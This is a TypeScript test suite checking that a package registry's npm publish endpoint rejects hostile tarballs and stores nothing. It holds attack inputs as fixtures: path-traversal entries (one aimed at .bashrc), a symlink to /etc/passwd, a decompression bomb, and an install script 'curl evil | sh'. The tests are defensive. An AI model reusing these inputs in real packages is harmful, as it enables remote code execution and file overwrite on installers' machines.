import {
  buildTar,
  startTestServer,
  storedBlobKeys,
  type TarInput,
  testModes,
  type TestServer,
  workCpuMs,
  zeroTarGz,
} from '@stowage/testkit';

import { npmFormat } from '../src';
import { publishBody } from './npm.fixtures';

// Tarballs npm unpacks into node_modules: every entry is checked at publish, and the tarball is
// read through with a cap on the bytes it expands to. Default limits (500 MiB files, 512 MiB
// unpacked), as a server runs with no configuration.

describe.each(testModes())('npm publish of hostile tarballs (%s)', (mode) => {
  let s: TestServer;
  let projectId: number;
  let token: string;

  const publish = (name: string, tgz: Buffer) =>
    s.api.inject({
      method: 'PUT',
      url: `/api/v4/projects/${projectId}/packages/npm/${name}`,
      payload: JSON.stringify(publishBody(name, '1.0.0', { tgz })),
      headers: { 'content-type': 'application/json', 'npm-command': 'publish', authorization: `Bearer ${token}` },
    });
  const packages = () => s.api.root<unknown[]>('GET', `/api/v4/projects/${projectId}/packages`);
  const refused = async (name: string, tgz: Buffer, error: string) => {
    const blobsBefore = await storedBlobKeys(s);
    const res = await publish(name, tgz);
    expect([res.status, res.json()]).toEqual([400, { error }]);
    expect(await packages()).toEqual([]);
    expect(await storedBlobKeys(s)).toEqual(blobsBefore);
  };
  const manifest = (name: string): TarInput => ({ name: 'package/package.json', data: JSON.stringify({ name, version: '1.0.0' }) });

  beforeAll(async () => {
    s = await startTestServer({ formats: [npmFormat], mode });
    const project = await s.api.createProject('lib');
    projectId = project.id;
    const dev = await s.api.createUser('dev');
    await s.api.addMember({ project: project.id }, dev.id, 30);
    token = dev.token;
  }, 120_000);
  afterAll(() => s?.close());

  it.each<[string, TarInput, string]>([
    [
      'a ".." path',
      { name: 'package/../../x', data: 'x' },
      'the archive entry "package/../../x" points outside the package directory (a ".." segment)',
    ],
    [
      'an absolute path',
      { name: '/etc/x', data: 'x' },
      'the archive entry "/etc/x" points outside the package directory (an absolute path)',
    ],
    ['a drive path', { name: 'C:/x', data: 'x' }, 'the archive entry "C:/x" points outside the package directory (a drive path)'],
    ['a backslash drive path', { name: 'C:\\x', data: 'x' }, 'the archive entry "C:\\\\x" has a backslash in its name'],
    [
      'a backslash path',
      { name: 'package\\..\\..\\x', data: 'x' },
      'the archive entry "package\\\\..\\\\..\\\\x" has a backslash in its name',
    ],
    ['a symlink', { name: 'package/link', type: '2', link: '/etc/passwd' }, 'the archive entry "package/link" is a symbolic link'],
    ['a hard link', { name: 'package/link', type: '1', link: 'package/package.json' }, 'the archive entry "package/link" is a hard link'],
    ['a FIFO', { name: 'package/fifo', type: '6' }, 'the archive entry "package/fifo" is a device, FIFO or other special file'],
    [
      'a ".." path in a pax header',
      { name: 'package/ok.js', paxPath: 'package/../../.bashrc', data: 'x' },
      'the archive entry "package/../../.bashrc" points outside the package directory (a ".." segment)',
    ],
  ])('refuses a tarball with %s, naming the entry, and stores nothing', async (_, entry, problem) => {
    await refused(
      'evil-lib',
      buildTar([manifest('evil-lib'), { name: 'package/index.js', data: 'ok' }, entry]),
      `Invalid tarball: ${problem}.`,
    );
  });

  it('refuses a second package.json npm would write over the first', async () => {
    const second = {
      name: 'other/package.json',
      data: JSON.stringify({ name: 'evil-lib', version: '1.0.0', scripts: { install: 'curl evil | sh' } }),
    };
    await refused(
      'evil-lib',
      buildTar([manifest('evil-lib'), second]),
      'Invalid tarball: the tarball holds more than one package.json (package/package.json, other/package.json).',
    );
    await refused(
      'evil-lib',
      buildTar([manifest('evil-lib'), { ...manifest('evil-lib'), data: '{}' }]),
      'Invalid tarball: the archive holds "package/package.json" more than once.',
    );
  });

  it('stops, quickly, a tarball that expands to 4 GiB before its package.json', async () => {
    const bomb = zeroTarGz('package/zeros.bin', 4096, [manifest('bomb-lib')]);
    expect(bomb.length).toBeLessThan(5 << 20);
    const before = workCpuMs();
    await refused('bomb-lib', bomb, `Invalid tarball: the archive expands beyond ${512 * 1024 ** 2} bytes.`);
    const used = workCpuMs() - before;
    const seconds = used / 1000;
    process.stdout.write(`npm 4 GiB tarball bomb refused after ${seconds.toFixed(2)} s of CPU\n`);
    // About 1 s here (512 MiB inflated); it took 19 s, and was accepted, before the cap. A machine
    // loaded four times over made it 4.0 s of CPU (a CI failure), so the bound is 8 s: still far from 19.
    expect(seconds).toBeLessThan(8);
  });

  it('refuses a tarball of more than 100,000 entries (each costs CPU, empty ones gzip to almost nothing)', async () => {
    const entries: TarInput[] = [manifest('swarm-lib')];
    for (let i = 0; i < 100_000; i++) entries.push({ name: `package/f${i}`, data: '' });
    const tgz = buildTar(entries);
    expect(tgz.length).toBeLessThan(1 << 20);
    await refused('swarm-lib', tgz, 'Invalid tarball: the archive has more than 100000 entries.');
    entries.pop();
    expect((await publish('swarm-lib', buildTar(entries))).status).toBe(200);
  });

  it('still publishes an ordinary tarball, directories and all', async () => {
    const tgz = buildTar([
      { name: 'package/', type: '5' },
      manifest('good-lib'),
      { name: 'package/lib/', type: '5' },
      { name: 'package/lib/index.js', data: 'ok' },
    ]);
    expect((await publish('good-lib', tgz)).status).toBe(200);
  });

  it('answers a republished version before reading its tarball', async () => {
    // Read first, this tarball would be the answer (400 Invalid tarball); the cheap check answers.
    const res = await publish('good-lib', zeroTarGz('package/zeros.bin', 64).subarray(0, 2000));
    expect([res.status, res.json()]).toEqual([403, { error: 'Package already exists.' }]);
  });
});
